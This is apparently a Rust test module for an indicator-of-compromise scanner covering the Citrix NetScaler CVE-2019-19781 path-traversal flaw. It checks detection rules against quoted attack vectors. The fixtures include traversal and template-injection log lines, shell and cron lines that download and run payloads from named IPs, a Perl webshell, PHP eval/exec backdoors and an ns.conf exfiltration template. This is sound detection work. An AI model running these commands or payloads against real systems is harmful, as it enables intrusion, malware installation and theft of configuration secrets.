        let pattern = rule.pattern().expect("rule has a pattern");
        if pattern.find(line.as_bytes()).is_none() {
            return false;
        }
        match &rule.check {
            Check::Log { exclude, .. } => exclude.iter().all(|e| e.find(line.as_bytes()).is_none()),
            _ => true,
        }
    }

    /// The rules of `pack` whose pattern (minus log excludes) matches `text`.
    fn matching(pack: &str, text: &str) -> Vec<String> {
        builtin()
            .into_iter()
            .filter(|p| p.name == pack)
            .flat_map(|p| p.rules)
            .filter(|r| r.pattern().is_some() && hits(r, text))
            .map(|r| r.id)
            .collect()
    }

    /// An ERE compiled the way grep -E would, given Rust syntax for the rest: the POSIX
    /// bracket `[^\s]` ("not backslash, not s") becomes `[^\\s]`.
    fn posix_bracket_bug(ere: &str, case_insensitive: bool) -> regex::bytes::Regex {
        RegexBuilder::new(&ere.replace(r"[^\s]", r"[^\\s]"))
            .case_insensitive(case_insensitive)
            .unicode(false)
            .build()
            .unwrap()
    }

    // Appendix C vectors (mandiant/ioc-scanner-CVE-2019-19781 tests/, Apache-2.0; C.12 j81blog, x1sec).
    const C1_A: &str = r#"127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] "GET /vpn/../vpns/portal/12345678.xml HTTP/1.1" 200 71875 "-" "python-requests/2.18.4""#;
    const C1_B: &str = r#"127.0.0.1 - - [17/Jan/2020:20:07:22 +0000] "GET /vpn/../vpns/portal/NIGkDs7jfV4qTnX1tF5my9gPM3Bz0JpH.xml HTTP/1.1" 200 - "-" "python-requests/2.21.0""#;
    const C2_A: &str = r#"127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] "GET /vpn/../vpns/portal/12345678.xml?foo=bar HTTP/1.1" 200 71875 "-" "python-requests/2.18.4""#;
    const C2_B: &str = r#"127.0.0.1 - - [17/Jan/2020:20:07:22 +0000] "GET /vpn/../vpns/portal/NIGkDs7jfV4qTnX1tF5my9gPM3Bz0JpH.xml?foo=bar HTTP/1.1" 200 - "-" "python-requests/2.21.0""#;
    const C3_A: &str = r#"127.0.0.1 - - [23/Jan/2020:22:30:19 +0000] "PUT /vpn/../vpns/portal/scripts/picktheme.pl HTTP/1.1" 200 27758 "-" "-""#;
    const C3_B: &str = r#"127.0.0.1 - - [23/Jan/2020:22:30:22 +0000] "PUT /vpn/../vpns/portal/lol[%25template.new({'BLOCK'%3d'print`id`'})%25].xml HTTP/1.1" 200 753 "-" "-"#;
    const C4_404: &str = r#"/var/log/httpaccess.log.4:127.0.0.2 - - [13/Jan/2020:07:35:02 +0000] "POST /vpn/../vpns/portal/scripts/quczpevgdg.pl HTTP/1.1" 404 231 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0""#;
    const C4_200: &str = r#"/var/log/httpaccess.log.4:127.0.0.2 - - [13/Jan/2020:08:16:30 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 135 "-" "curl/7.67.0""#;
    const C4_304: &str = r#"/var/log/httpaccess.log.4:127.0.0.2 - - [13/Jan/2020:09:35:42 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 304 - "-" "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0""#;
    const C4_GET: &str = r#"/var/log/httpaccess.log.5:127.0.0.2 - - [11/Jan/2020:16:47:54 +0000] "GET /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 1880 "-" ""#;
    const C5: &str = r#"/var/log/httpaccess.log.4:127.0.0.2 - - [13/Jan/2020:08:28:31 +0000] "GET /vpn/../vpns/portal/mWK6N4fOqFFgZ7puKwxaAVDV4Kk5zmg8.xml HTTP/1.1" 404 48 "-" "curl/7.58.0""#;
    const C12: [&str; 5] = [
        r#"193.187.174.104 - - [12/Jan/2020:11:26:02 +0000] "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1" 200 83 "-""#,
        r#"193.187.174.104 - - [12/Jan/2020:11:26:03 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 15 "-""#,
        r#"193.187.174.104 - - [12/Jan/2020:11:26:04 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 15 "-""#,
        r#"193.187.174.104 - - [12/Jan/2020:11:26:05 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 15 "-""#,
        r#"193.187.174.104 - - [12/Jan/2020:11:26:11 +0000] "GET /vpn/../vpns/portal/AOUnCfwrjIJrpngpwLXHddqADAxTraBan.xml HTTP/1.1" 200 - "-""#,
    ];
    const C12_MASH: [&str; 2] = [
        r#"192.168.0.4 - - [28/Nov/2019:22:28:20 +0000] "POST /vpns/portal/scripts/newbm.pl HTTP/1.1" 200 135 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0" "Time: 6809 microsecs""#,
        r#"192.168.0.4 - - [28/Nov/2019:22:28:22 +0000] "GET /vpns/portal/xbtewgybbp.xml HTTP/1.1" 200 696 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0" "Time: 147744 microsecs""#,
    ];

    /// access-logs.sh re0 and re1 exactly as in the scanner (ERE, used with zgrep -Ei).
    const RE0: &str = r#"\]\s\"[A-Z]{3,7}\s[^\s]*/(v|%76)(p|%70)(n|%6[Ee])(s|%73)/[^\s]*\.(x|%[57]8)(m|%[46]d)(l|%[46]c)[^\s]*\sHTTP/1\.1\"\s(200|304)"#;
    const RE1: &str =
        r#"(GET|POST)\s[^\s]*/(v|%76)(p|%70)(n|%6[Ee])(s|%73)/[^\s]*\.pl[^\s]*\sHTTP/1\.1\"\s304"#;

    #[test]
    fn rules_builtin_packs_parse_and_count() {
        let packs = builtin();
        assert_eq!(packs.len(), BUILTIN_FILES.len());
        let mut total = 0;
        for pack in &packs {
            println!("{:<16} {:>4} rules", pack.name, pack.rules.len());
            assert!(!pack.rules.is_empty());
            total += pack.rules.len();
        }
        println!("{:<16} {total:>4} rules", "total");
        let names: Vec<_> = packs.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "mandiant-2019",
                "mandiant-2023",
                "foxit-iocitrix",
                "x1sec-j81blog",
                "ncsc-nl-2025",
                "sigma",
                "wachter"
            ]
        );
    }

    #[test]
    fn rules_ids_unique_and_prefixed() {
        let packs = builtin();
        check_unique(&packs).unwrap();
        let mut seen = HashSet::new();
        for pack in &packs {
            for rule in &pack.rules {
                assert!(
                    rule.id.starts_with(&format!("{}/", pack.name)),
                    "{}",
                    rule.id
                );
                assert!(seen.insert(rule.id.clone()), "duplicate {}", rule.id);
                assert!(rule.source.len() > 20, "{}: source too vague", rule.id);
                assert!(!rule.description.is_empty());
            }
        }
        let mut twice = packs.clone();
        twice.push(packs[0].clone());
        assert!(check_unique(&twice).is_err());
    }

    #[test]
    fn rules_log_kind_names_are_the_serde_names() {
        for kind in [
            LogKind::HttpAccess,
            LogKind::HttpError,
            LogKind::Bash,
            LogKind::Notice,
            LogKind::Sh,
            LogKind::Cron,
            LogKind::NsLog,
            LogKind::Messages,
        ] {
            let name = serde_json::to_value(kind).unwrap();
            assert_eq!(log_kind(name.as_str().unwrap()), Some(kind));
        }
    }

    const GOOD: &str = r#"
[pack]
name = "test"
source = "a test"

[[rule]]
id = "test/one"
cves = ["CVE-2019-19781"]
severity = "compromise"
source = "test"
description = "test"
kind = "content"
under = ["/var/vpn/"]
fixed = "a.b"
"#;

    #[test]
    fn rules_broken_file_names_file_and_rule() {
        let pack = parse_pack(GOOD, "good.toml").unwrap();
        match &pack.rules[0].check {
            Check::Content {
                under,
                pattern,
                text_only,
                ..
            } => {
                assert_eq!(under, &["/var/vpn"]);
                assert!(pattern.find(b"xa.by").is_some());
                assert!(pattern.find(b"axb").is_none(), "fixed strings are escaped");
                assert!(!text_only);
            }
            other => panic!("{other:?}"),
        }
        let cases = [
            (
                GOOD.replace("fixed = \"a.b\"", "regex = \"(unclosed\""),
                "pattern",
            ),
            (
                GOOD.replace("kind = \"content\"", "kind = \"contents\""),
                "unknown kind",
            ),
            (
                GOOD.replace("severity = \"compromise\"", "severity = \"bad\""),
                "bad",
            ),
            (
                GOOD.replace("fixed = \"a.b\"", "fixed = \"a\"\nbogus = 1"),
                "bogus",
            ),
            (
                GOOD.replace("under = [\"/var/vpn/\"]", "under = []"),
                "under",
            ),
            (
                GOOD.replace("under = [\"/var/vpn/\"]", "dirs = [\"/x\"]"),
                "dirs",
            ),
            (
                GOOD.replace("cves = [\"CVE-2019-19781\"]", "cves = []"),
                "cves",
            ),
            (
                GOOD.replace("fixed = \"a.b\"", "fixed = \"a\"\nmode = \"0999\""),
                "mode",
            ),
        ];
        for (text, needle) in cases {
            let err = parse_pack(&text, "broken.toml").unwrap_err().to_string();
            assert!(err.starts_with("broken.toml: rule test/one: "), "{err}");
            assert!(err.contains(needle), "{err} lacks {needle}");
        }
        let dup = format!("{GOOD}\n{}", &GOOD[GOOD.find("[[rule]]").unwrap()..]);
        let err = parse_pack(&dup, "dup.toml").unwrap_err().to_string();
        assert!(err.contains("dup.toml") && err.contains("test/one") && err.contains("duplicate"));
        let wrong_prefix = GOOD.replace("id = \"test/one\"", "id = \"other/one\"");
        let err = parse_pack(&wrong_prefix, "p.toml").unwrap_err().to_string();
        assert!(
            err.contains("rule other/one") && err.contains("\"test/\""),
            "{err}"
        );
        let syntax = parse_pack("[pack\n", "syntax.toml")
            .unwrap_err()
            .to_string();
        assert!(syntax.starts_with("syntax.toml: "), "{syntax}");
    }

    #[test]
    fn address_terms_match_whole_addresses() {
        let p = compile_pattern("62.113.112.33", true, false).unwrap();
        assert!(p.find(b"curl http://62.113.112.33/ci.sh").is_some());
        assert!(p.find(b"62.113.112.33").is_some());
        assert!(p.find(b"from 162.113.112.33 port 80").is_none());
        assert!(p.find(b"62.113.112.330").is_none());
    }

    #[test]
    fn rules_examples_parse() {
        let text = GOOD.replace(
            "fixed = \"a.b\"",
            "fixed = \"a.b\"\nexample = \"xa.by\"\nexample_path = \"/var/vpn/x/\"\nnear_miss = \"axb\"",
        );
        let rule = &parse_pack(&text, "t.toml").unwrap().rules[0];
        assert_eq!(rule.example.as_deref(), Some(b"xa.by".as_slice()));
        assert_eq!(rule.example_path.as_deref(), Some("/var/vpn/x"));
        assert_eq!(rule.near_miss.as_deref(), Some("axb"));
        let hex = GOOD.replace(
            "fixed = \"a.b\"",
            "fixed = \"a.b\"\nexample_hex = \"d4 c3b2a1\"",
        );
        let rule = &parse_pack(&hex, "t.toml").unwrap().rules[0];
        assert_eq!(
            rule.example.as_deref(),
            Some(b"\xd4\xc3\xb2\xa1".as_slice())
        );
        assert!(
            parse_pack(GOOD, "t.toml").unwrap().rules[0]
                .example
                .is_none()
        );
        for (extra, needle) in [
            ("example = \"\"", "`example` is empty"),
            ("example = \"a\"\nexample_hex = \"61\"", "not both"),
            ("example_hex = \"6\"", "example_hex"),
            ("example_hex = \"zz\"", "not hex"),
            (
                "example = \"a\"\nexample_path = \"relative\"",
                "example_path",
            ),
            ("example = \"a\"\nexample_path = \"/a/*/b\"", "example_path"),
            ("near_miss = \"a\"", "need an `example`"),
            ("example = \"a\"\nnear_miss = \"\"", "`near_miss` is empty"),
            ("examples = \"a\"", "examples"),
        ] {
            let text = GOOD.replace("fixed = \"a.b\"", &format!("fixed = \"a.b\"\n{extra}"));
            let err = parse_pack(&text, "broken.toml").unwrap_err().to_string();
            assert!(err.contains(needle), "{extra}: {err}");
        }
    }

    #[test]
    fn rules_modes_and_paths() {
        assert_eq!(mode(&Some("0644".into())), Ok(0o644));
        assert_eq!(mode(&Some("4755".into())), Ok(0o4755));
        assert!(mode(&Some("644x".into())).is_err());
        assert!(mode(&Some("17777".into())).is_err());
        assert!(paths(&Some(vec!["relative".into()]), "under", true).is_err());
        assert!(paths(&Some(vec!["/a/../b".into()]), "under", true).is_err());
        assert!(paths(&Some(vec!["/a/b*".into()]), "under", true).is_err());
        assert!(paths(&Some(vec!["/a/*".into()]), "paths", false).is_err());
        assert_eq!(
            paths(&Some(vec!["/a/*/".into(), "/".into()]), "dirs", true).unwrap(),
            ["/a/*", "/"]
        );
    }

    /// Brute force: the complement regexes agree with the globs on every short name.
    #[test]
    fn rules_name_globs_complement() {
        let cases: &[&[&str]] = &[
            &["*.php"],
            &["*.php", "*.xhtml", "*.p"],
            &["*.php", "*.php3", "*.phtml", "*.pht"],
            &["bm_prefix_*"],
            &["ab*", "b*", "abc*"],
            &["tips.pl", "logout.pl", "t"],
            &["a", "ab", "abc"],
        ];
        let alphabet = ['a', 'b', 'c', '.', 'p', 'h', 'P', 't', 'x', '_', 'm'];
        for globs in cases {
            let owned: Vec<String> = globs.iter().map(|s| s.to_string()).collect();
            let re = compile_pattern(&names_complement(&owned).unwrap(), false, true).unwrap();
            let matches_glob = |name: &str| {
                let name = name.to_ascii_lowercase();
                globs.iter().any(|g| {
                    if let Some(suffix) = g.strip_prefix('*') {
                        name.ends_with(suffix)
                    } else if let Some(prefix) = g.strip_suffix('*') {
                        name.starts_with(prefix)
                    } else {
                        name == *g
                    }
                })
            };
            let mut names = vec![String::new()];
            let mut frontier = vec![String::new()];
            for _ in 0..5 {
                let mut next = Vec::new();
                for n in &frontier {
                    for c in alphabet {
                        next.push(format!("{n}{c}"));
                    }
                }
                names.extend(next.iter().cloned());
                frontier = next;
            }
            let extra = [
                "x.php",
                "x.PHP",
                "x.php5",
                "x.phtml",
                "bm_prefix_dXNlcg==.xml",
                "user.xml",
                "tips.pl",
                "logout.pl",
                "tips.pl.bak",
                "abc",
                "abcd",
            ];
            names.extend(extra.iter().map(|s| s.to_string()));
            for name in &names {
                assert_eq!(
                    re.find(name.as_bytes()).is_some(),
                    !matches_glob(name),
                    "globs {globs:?}, name {name:?}, regex {}",
                    re.source
                );
            }
        }
        assert!(names_complement(&["*".into()]).is_err());
        assert!(names_complement(&["*.php".into(), "x*".into()]).is_err());
        assert!(names_complement(&["a*b*".into()]).is_err());
    }

    #[test]
    fn rules_only_names_become_skip_names() {
        let r = rule("foxit-iocitrix/php-code-eval");
        let Check::Content {
            skip_names: Some(skip),
            max_size,
            ..
        } = &r.check
        else {
            panic!("{r:?}")
        };
        assert_eq!(*max_size, Some(2048));
        assert!(skip.find(b"index.html").is_some());
        assert!(skip.find(b"shell.php").is_none());
        assert!(skip.find(b"shell.PHP").is_none());
        // With both skip_names and only_names.
        let text = GOOD.replace(
            "fixed = \"a.b\"",
            "fixed = \"x\"\nonly_names = [\"*.php\"]\nskip_names = { regex = \"^bm_\" }",
        );
        let pack = parse_pack(&text, "t.toml").unwrap();
        let Check::Content {
            skip_names: Some(skip),
            ..
        } = &pack.rules[0].check
        else {
            panic!()
        };
        assert!(skip.find(b"bm_x.php").is_some());
        assert!(skip.find(b"a.txt").is_some());
        assert!(skip.find(b"a.php").is_none());
    }

    /// (a) Mandiant access-logs.sh re0/re1: the POSIX `[^\s]` bug versus the shipped `\S`.
    #[test]
    fn rules_mandiant_access_bracket_bug_vs_intent() {
        let xml = rule("mandiant-2019/access-xml");
        let pl304 = rule("mandiant-2019/access-pl-304");
        // The shipped rules are the originals with `[^\s]` read as intended.
        let as_shipped = |ere: &str| ere.replace(r"[^\s]", r"\S").replace(r#"\""#, "\"");
        assert_eq!(xml.pattern().unwrap().source, as_shipped(RE0));
        assert_eq!(pl304.pattern().unwrap().source, as_shipped(RE1));
        assert!(xml.fixes.as_deref().unwrap().contains("[^\\s]"));

        let bug0 = posix_bracket_bug(RE0, true);
        let bug1 = posix_bracket_bug(RE1, true);
        let missed_xml =
            r#"GET /vpn/../vpns/portal/NIGkDs7jfV4qTnX1tF5my9gPM3Bz0JpH.xml HTTP/1.1" 200"#;
        let missed_pl = r#"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 304"#;
        assert!(C1_B.contains(missed_xml) && C4_304.contains(missed_pl));
        // The original misses both; the shipped rules match both.
        assert!(!bug0.is_match(C1_B.as_bytes()));
        assert!(!bug1.is_match(C4_304.as_bytes()));
        assert!(hits(&xml, C1_B));
        assert!(hits(&pl304, C4_304));
        // C.1 first line and the C.12 template (no `s` in their names): both variants match.
        for line in [C1_A, C12[4]] {
            assert!(bug0.is_match(line.as_bytes()) && hits(&xml, line), "{line}");
        }
        // C.2 (query parameters), C.3 (template in the file name, PUT), x1sec's citrixmash.
        for line in [C2_A, C2_B, C3_B, C12_MASH[1]] {
            assert!(hits(&xml, line), "{line}");
        }
        assert!(!bug0.is_match(C2_B.as_bytes()));
        // .pl with 200 is scanning, not re0/re1.
        for line in [C3_A, C4_200, C4_GET, C12[1]] {
            assert!(!hits(&xml, line) && !hits(&pl304, line), "{line}");
        }
        // Failed exploitation never counts as success.
        for line in [C4_404, C5] {
            assert!(!hits(&xml, line) && !hits(&pl304, line), "{line}");
        }
    }

    #[test]
    fn rules_mandiant_scanning_and_failed_vectors() {
        let scanning = rule("mandiant-2019/scanning-pl-conf-200");
        let failed = rule("mandiant-2019/failed-xml-pl-401-404");
        assert_eq!(scanning.severity, Severity::SuccessfulScanning);
        assert_eq!(failed.severity, Severity::FailedExploitation);
        // C.4, C.12: .pl/.conf answered 200.
        for line in [C4_200, C4_GET, C12[0], C12[1], C12[2], C12[3], C3_A] {
            assert!(hits(&scanning, line), "{line}");
        }
        // A direct POST to newbm.pl answered 200 is what a user adding a bookmark leaves:
        // not "successful scanning" (x1sec's suspicious rule lists it; the template fetch
        // that follows an attack, C.12's second line, is a compromise hit of its own).
        for line in [C4_404, C4_304, C1_A, C5, C12_MASH[0]] {
            assert!(!hits(&scanning, line), "{line}");
        }
        assert!(hits(&rule("mandiant-2019/access-xml"), C12_MASH[1]));
        // C.4 404 and C.5: failed exploitation; the original's `[^\s]` missed the C.4 one.
        for line in [C4_404, C5] {
            assert!(hits(&failed, line), "{line}");
        }
        let failed_ere = r#"(GET|POST|HEAD)\s[^\s]*/(v|%76)(p|%70)(n|%6[Ee])(s|%73)/[^\s]*\.(xml|pl).*HTTP/1\.1\"\s(401|404)"#;
        assert!(!posix_bracket_bug(failed_ere, true).is_match(C4_404.as_bytes()));
        for line in [C1_A, C4_200, C12[4]] {
            assert!(!hits(&failed, line), "{line}");
        }
    }

    /// (b) error-logs.sh: `Traceback (most recent call last):` as an ERE never matches.
    #[test]
    fn rules_traceback_ere_vs_fixed() {
        let term = "Traceback (most recent call last):";
        let line = "Traceback (most recent call last):";
        let ere = RegexBuilder::new(term)
            .case_insensitive(true)
            .build()
            .unwrap();
        assert!(
            !ere.is_match(line.as_bytes()),
            "the ERE groups the parentheses"
        );
        let shipped = rule("mandiant-2019/error-traceback-most-recent-call-last");
        assert!(shipped.pattern().unwrap().fixed);
        assert!(hits(&shipped, &format!("[Mon Jan 13 2020] {line}")));
        assert!(shipped.fixes.is_some());
        // C.6: every line of the fixture hits an error-log rule.
        let c6 = [
            "rm: /var/tmp/netscalerd: No such file or directory",
            "curl: (7) Failed to connect to 95.179.163.186 port 443: Operation timed out",
            "chmod: /tmp/.init/httpd: No such file or directory",
            "bash: line 1: /tmp/.init/httpd: No such file or directory",
            "cat: /proc/version: No such file or directory",
            "cat: /proc/cpuinfo: No such file or directory",
            "mkdir: /tmp/.init: File exists",
            "wget: not found",
            "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current",
        ];
        for l in c6 {
            let ids = matching("mandiant-2019", l);
            assert!(ids.iter().any(|id| id.contains("/error-")), "{l}: {ids:?}");
        }
    }

    /// (c) 2023 shell-history `whoami$`: fixed (literal `$`) never matches; exact command does.
    #[test]
    fn rules_whoami_exact_command() {
        let line = r#"Jul 19 10:00:00 <local7.notice> ns bash[1297]: nobody on (null) shell_command="whoami""#;
        let literal = compile_pattern("whoami$", true, false).unwrap();
        assert!(literal.find(line.as_bytes()).is_none());
        let shipped = rule("mandiant-2023/shell-whoami");
        assert!(hits(&shipped, line));
        assert!(!hits(
            &shipped,
            &line.replace("\"whoami\"", "\"whoami; id\"")
        ));
        assert!(!hits(&shipped, &line.replace("whoami", "cat whoami.txt")));
        assert!(shipped.fixes.is_some());
    }

    /// (d) 2023 netscaler-content: `eval($_POST`, lost upstream by the array overwrite.
    #[test]
    fn rules_eval_post_restored() {
        let r = rule("mandiant-2023/content-eval-post");
        assert!(hits(&r, "<?php @eval($_POST['x']); ?>"));
        assert!(r.fixes.as_deref().unwrap().contains("[4]"));
        let Check::Content {
            under, text_only, ..
        } = &r.check
        else {
            panic!()
        };
        assert_eq!(under, &["/"]);
        assert!(*text_only);
    }

    /// (e) The two glob directories the 2023 scanner never expanded are listed.
    #[test]
    fn rules_glob_dirs_covered() {
        let r = rule("mandiant-2023/fs-shells-php-glob-dirs");
        let Check::DirListing { dirs, name } = &r.check else {
            panic!()
        };
        assert!(dirs.contains(&"/var/netscaler/logon/LogonPoint/uiareas/*".to_string()));
        assert!(dirs.contains(&"/netscaler/ns_gui/epa/scripts/*".to_string()));
        assert!(name.find(b"adminupevents.php").is_some());
        assert!(name.find(b"index.html").is_none());
        assert!(r.fixes.is_some());
    }

    #[test]
    fn rules_shell_and_cron_history_vectors() {
        // C.7 notice.log (NOTROBIN) and bash.log (APT41).
        let notice = r#"Jan 19 23:39:59 <local7.notice> ns bash[1173]: root on (null) shell_command="pkill -9 netscalerd;rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k https://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo "* * * * * /var/nstmp/.nscache/httpd" | crontab -; /tmp/.init/httpd &"""#;
        let ids = matching("mandiant-2019", notice);
        for id in [
            "mandiant-2019/shell-95-179-163-186",
            "mandiant-2019/shell-wp-content-uploads",
            "mandiant-2019/shell-tmp-init-httpd",
        ] {
            assert!(ids.iter().any(|i| i == id), "{id} not in {ids:?}");
        }
        let bsd = r#"Jan 19 24:26:52 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command="/usr/bin/ftp -o /tmp/bsd ftp://xxxxxxxxxxxxxxxxxxxxxx66.42.98.220/bsd""#;
        let ids = matching("mandiant-2019", bsd);
        assert!(
            ids.contains(&"mandiant-2019/shell-tmp-bsd".to_string()),
            "{ids:?}"
        );
        assert!(
            ids.contains(&"mandiant-2019/shell-66-42-98-220".to_string()),
            "{ids:?}"
        );
        // The scanner's own commands are not reported (issue #24).
        let own = r#"Jan 20 10:00:00 <local7.notice> ns bash[2000]: root on /dev/pts/0 shell_command="declare -a notrobin_paths; notrobin_paths[0]="/tmp/.init/httpd";""#;
        let ids = matching("mandiant-2019", own);
        assert!(!ids.iter().any(|i| i.contains("/shell-")), "{ids:?}");
        // C.8 cron log.
        let cron = "Jan 19 23:00:06 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1)";
        let ids = matching("mandiant-2019", cron);
        for id in [
            "cron-history-nobody-cmd",
            "cron-history-ci-sh",
            "cron-history-185-178-45-221",
        ] {
            assert!(
                ids.contains(&format!("mandiant-2019/{id}")),
                "{id}: {ids:?}"
            );
        }
        let clean = "Jan 19 23:01:05 <cron.info> Stage-NS01 /usr/sbin/cron[14605]: (root) CMD (   nsfsyncd -p)";
        assert!(matching("mandiant-2019", clean).is_empty());
        assert!(matching("mandiant-2023", clean).is_empty());
        let ls =
            "Jan 19 23:00:06 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (ls /)";
        assert!(
            matching("mandiant-2019", ls).contains(&"mandiant-2019/cron-history-nobody-cmd".into())
        );
    }

    #[test]
    fn rules_content_vectors() {
        // C.11 rmpm.pl (Perl webshell) and bflxohnzbv.xml (citrixmash template).
        let rmpm = "use strict;use Encode;my $cgi=new CGI;my $f=Encode::decode(chr(117).chr(116).chr(102).chr(56),$cgi->param(chr(102)));if($f){print $f;my @c= `$f`;foreach my $l (@c) {print $l;}exit;}";
        let ids = matching("mandiant-2019", rmpm);
        for id in [
            "content-encode-decode-chr",
            "content-chr",
            "content-backtick",
            "content-exit",
        ] {
            assert!(
                ids.contains(&format!("mandiant-2019/{id}")),
                "{id}: {ids:?}"
            );
        }
        let template = r#"<user username="../../../netscaler/portal/templates/bflxohnzbv"> <bookmarks> <bookmark UI_inuse="a" descr="desc" title="[% template.new({'BLOCK'='print readpipe(chr(47) . chr(118))'})%]" url="http://127.0.0.1" />"#;
        let ids = matching("mandiant-2019", template);
        assert!(
            ids.contains(&"mandiant-2019/content-template-new".into()),
            "{ids:?}"
        );
        let copied = "#NS12.1 Build 51.19\nset ns config -IPAddress 10.0.0.1\n";
        let ids = matching("mandiant-2019", copied);
        assert!(
            ids.contains(&"mandiant-2019/content-ns-header".into()),
            "{ids:?}"
        );
        // Legitimate strings the BREs were written to spare.
        assert!(!hits(&rule("mandiant-2019/content-exec-not-u"), "execute"));
        assert!(!hits(
            &rule("mandiant-2019/content-eval-not-han"),
            "eval(handle_subscriptions());"
        ));
        // Bookmark files of the legitimate naming are skipped.
        let Check::Content {
            skip_names: Some(skip),
            ..
        } = &rule("mandiant-2019/content-curl").check
        else {
            panic!()
        };
        assert!(skip.find(b"bm_prefix_dXNlcg==.xml").is_some());
        assert!(skip.find(b"bflxohnzbv.xml").is_none());
        // x1sec: the ns.conf exfiltration template.
        let exfil =
            r#"title="@FILE@[% USE mydata = datafile('/nsconfig/ns.conf', delim = '\n') %]""#;
        assert!(hits(&rule("x1sec-j81blog/template-datafile"), exfil));
    }

    #[test]
    fn rules_ncsc_and_sigma_vectors() {
        let pcap = rule("ncsc-nl-2025/pcap-file");
        assert!(
            pcap.pattern()
                .unwrap()
                .find(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00")
                .is_some()
        );
        assert!(pcap.pattern().unwrap().find(b"\x4d\x3c\xb2\xa1").is_some());
        assert!(
            pcap.pattern()
                .unwrap()
                .find(b"xx\xd4\xc3\xb2\xa1")
                .is_none()
        );
        let ext = rule("ncsc-nl-2025/httpd-php-extension");
        assert!(hits(&ext, "AddType application/x-httpd-php .php .phtml"));
        assert!(hits(&ext, "AddType application/x-httpd-php .css"));
        assert!(!hits(&ext, "AddType application/x-httpd-php .php"));
        assert!(!hits(&ext, "AddType application/x-httpd-php .php .phps\n"));
        let theme = rule("ncsc-nl-2025/nsconf-portaltheme-not-default");
        assert!(hits(&theme, "bind vpn vserver gw -portaltheme RfWebUI"));
        assert!(!hits(&theme, "bind vpn vserver gw -portaltheme Default"));
        let exec = rule("ncsc-nl-2025/tiny-backdoor-exec");
        assert!(hits(&exec, "<?php exec($_GET['c']);"));
        assert!(!hits(&exec, "re.exec(x)"));
        assert!(hits(
            &rule("ncsc-nl-2025/nsconfig-fnoc-dptth"),
            "x = 'FNOC.DPTTH'[::-1]"
        ));

        let traversal = rule("sigma/cve-2019-19781-traversal");
        let smb = rule("sigma/cve-2019-19781-smb-conf");
        let scripts = rule("sigma/cve-2019-19781-portal-scripts");
        assert!(hits(&traversal, C12[0]) && hits(&smb, C12[0]));
        assert!(hits(&scripts, C12_MASH[0]) && !hits(&traversal, C12_MASH[0]));
        let logout = r#"10.0.0.1 - - [28/Nov/2019:22:28:20 +0000] "GET /vpns/portal/scripts/logout.pl HTTP/1.1" 200 135 "-" "-""#;
        assert!(!hits(&scripts, logout));
        assert!(hits(&rule("sigma/cve-2019-19781-template-in-uri"), C3_B));
        assert!(hits(&rule("x1sec-j81blog/access-ioc-client"), C12[0]));
    }
}
